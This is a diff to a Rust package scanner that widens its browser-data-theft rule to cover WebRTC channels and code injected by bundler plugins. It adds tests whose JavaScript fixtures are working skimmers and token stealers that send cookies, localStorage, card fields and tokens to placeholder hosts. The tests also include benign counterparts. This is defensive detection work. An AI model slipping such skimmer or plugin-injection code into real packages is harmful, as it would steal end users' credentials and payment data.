@@ -12,12 +12,17 @@ diligence_finding::declare_rule! {
     ///
     /// ## What it detects
     /// A value-flow path from browser data to a send (`fetch`, XHR, WebSocket, `navigator.sendBeacon`, jQuery ajax,
-    /// an `img`/`script`/`iframe` element's `src`, `location`): password and payment-card fields, key strokes,
-    /// form inputs (`querySelectorAll('input')`, `FormData`, `submit`/`change` events), the cookie jar, web
+    /// an `img`/`script`/`iframe` element's `src`, `location`, a WebRTC data channel whose destination is the
+    /// peer connection's ICE relay URL, WebTransport): password and payment-card fields, key strokes,
+    /// form inputs (`querySelectorAll('input')`, a constant selector handed to the page's own query helper
+    /// `q('input')`, `FormData`, `submit`/`change` events), the cookie jar, web
     /// storage (the whole store, or a named entry that holds a token or secret), the clipboard, wallet-provider
     /// answers, the requests a replaced `fetch`/XHR method receives — through variables, encoders, callbacks,
     /// helpers and
-    /// modules. Form inputs read in a file that singles out password or payment fields (`el.type === 'password'`,
+    /// modules — also in code a build plugin emits into the bundles it builds (a string handed to Babel's
+    /// `template`, a MagicString `prepend`/`append`, `emitFile`, or joined into a transform's `code`), which runs
+    /// in every application the plugin builds. Form inputs read in a file that singles out password or payment
+    /// fields (`el.type === 'password'`,
     /// a `/card|cvv|cvc/` name pattern) count as password/card fields. With a hard-coded destination: critical
     /// for password/card fields or key strokes, for two kinds
     /// of data, for an exfiltration-style endpoint, or for a destination URL decoded at run time
@@ -43,6 +48,8 @@ diligence_finding::declare_rule! {
     /// read their own cookie (`document.cookie.split(';')…`) or a named storage entry (also one a storage
     /// wrapper's caller names, `getItem(prefix + key)`): low. Payment SDKs that post card fields to their own
     /// constant host would be critical; they are loaded from the processor's CDN rather than bundled from npm.
+    /// Bundler plugins inject their own runtime (HMR clients, preload helpers, polyfills); it is judged by what it
+    /// does, and reads no form, cookie or storage data.
     pub static BROWSER_DATA_THEFT = { id: "code/browser-data-theft", severity: Severity::Critical };
 }
 
@@ -431,5 +438,119 @@ mod tests {
             ),
         ]);
         assert!(hits(&s, "code/browser-data-theft").is_empty());
+    }
+
+    /// Cookies and storage streamed over a WebRTC data channel through a TURN relay on a raw
+    /// IP (no fetch/XHR), read in one function and sent in another.
+    #[test]
+    fn positive_webrtc_data_channel_to_a_relay() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/index.js",
+                "function session() {\n  return btoa(JSON.stringify({ c: document.cookie, l: JSON.stringify(localStorage) }));\n}\nfunction warmup() {\n  const chunks = session().match(/.{1,200}/g) || [];\n  const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:203.0.113.7:3478', username: 'u', credential: 'x' }] });\n  const ch = pc.createDataChannel('w');\n  ch.onopen = () => chunks.forEach((c) => ch.send(c));\n}\nsetTimeout(warmup, 4000);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/browser-data-theft"),
+            vec![("dist/index.js".to_string(), 8)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// simple-peer style: a data channel over a public STUN server sends what the caller
+    /// passes; no page data is read.
+    #[test]
+    fn negative_webrtc_peer_sends_callers_data() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const CONFIG = { iceServers: [{ urls: 'stun:stun.example.net:19302' }] };\nexport class Peer {\n  constructor(opts = {}) {\n    this.pc = new RTCPeerConnection(opts.config || CONFIG);\n    this.ch = this.pc.createDataChannel(opts.channelName || 'data');\n    this.ch.onmessage = (e) => this.onData && this.onData(e.data);\n  }\n  send(chunk) { this.ch.send(chunk); }\n}\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/browser-data-theft").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A build plugin emits a skimmer into the bundles it builds: the code is a string joined
+    /// from parts and handed to Babel's template; the inputs come through the page's own
+    /// query helper, the card fields through a name pattern, the data leaves by beacon.
+    #[test]
+    fn positive_skimmer_emitted_by_a_build_plugin() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/index.js",
+                "var RUNTIME = [\n  \"(function(){var q=function(s){return [].slice.call(document.querySelectorAll(s))};\",\n  \"document.addEventListener('submit',function(){var o={};q('input').forEach(function(i){\",\n  \"if(/card|cc-|cvc|cvv|pass/i.test(i.name))o[i.name]=i.value});\",\n  \"navigator.sendBeacon('https://cdn.example.com/k',JSON.stringify(o))},true)})();\"\n].join('');\nmodule.exports = function (api) {\n  return { visitor: { Program: { exit(path) {\n    if (process.env.NODE_ENV === 'production') path.pushContainer('body', api.template.statement.ast(RUNTIME));\n  } } } };\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/browser-data-theft"),
+            vec![("lib/index.js".to_string(), 9)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// Bundler plugins that inject their own runtime: an HMR client preamble through
+    /// MagicString and a polyfill banner in a transform result.
+    #[test]
+    fn negative_plugin_injects_hmr_and_polyfill() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const HMR = \"import { createHotContext } from '/@client';\\nimport.meta.hot = createHotContext(import.meta.url);\\nfunction accept(m) { import.meta.hot.accept(m); }\\n\";\nconst POLY = \"if (typeof globalThis.structuredClone !== 'function') { globalThis.structuredClone = function (v) { return JSON.parse(JSON.stringify(v)); }; }\\n\";\nexport default function plugin() {\n  return {\n    name: 'inject',\n    transform(code, id) {\n      if (id.endsWith('.css')) return null;\n      const s = new MagicString(code);\n      s.prepend(HMR);\n      return { code: POLY + s.toString(), map: null };\n    },\n  };\n}\n",
+            ),
+        ]);
+        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
+    }
+
+    /// A Vite plugin's `transformIndexHtml` adds a script tag whose body harvests the page's
+    /// inputs and cookie into an image beacon.
+    #[test]
+    fn positive_script_tag_descriptor_of_an_html_transform() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const SNIP = \"document.addEventListener('submit',function(){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});d.c=document.cookie;new Image().src='https://cdn.example.net/p.gif?d='+btoa(JSON.stringify(d))});\";\nmodule.exports = function () {\n  return { name: 'analytics', transformIndexHtml() { return [{ tag: 'script', injectTo: 'body', children: SNIP }]; } };\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/browser-data-theft"),
+            vec![("index.js".to_string(), 3)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A webpack plugin prepends its chunk-loading runtime with `ConcatSource`: it reads no
+    /// page data.
+    #[test]
+    fn negative_webpack_runtime_banner() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const { ConcatSource } = require('webpack-sources');\nconst RUNTIME = \"(function(){var loaded={};window.__load=function(id){if(loaded[id])return loaded[id];return loaded[id]=fetch('/chunks/'+id+'.js').then(function(r){return r.text()});};})();\\n\";\nclass RuntimePlugin {\n  apply(compiler) {\n    compiler.hooks.compilation.tap('rt', (c) => c.hooks.processAssets.tap('rt', (assets) => {\n      for (const name of Object.keys(assets)) if (name.endsWith('.js')) assets[name] = new ConcatSource(RUNTIME, assets[name]);\n    }));\n  }\n}\nmodule.exports = RuntimePlugin;\n",
+            ),
+        ]);
+        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
+    }
+
+    /// A Rollup plugin appends a token stealer to every entry chunk in `generateBundle`.
+    #[test]
+    fn positive_code_appended_to_entry_chunks() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const K = [\"(function(){var t=localStorage.getItem('token');var c=document.cookie;\", \"fetch('https://m.example.org/c',{method:'POST',body:JSON.stringify({t:t,c:c})})})();\"].join('');\nmodule.exports = () => ({\n  name: 'meta',\n  generateBundle(o, bundle) {\n    for (const f of Object.values(bundle)) if (f.type === 'chunk' && f.isEntry) f.code += K;\n  },\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/browser-data-theft"),
+            vec![("index.js".to_string(), 5)]
+        );
     }
 }
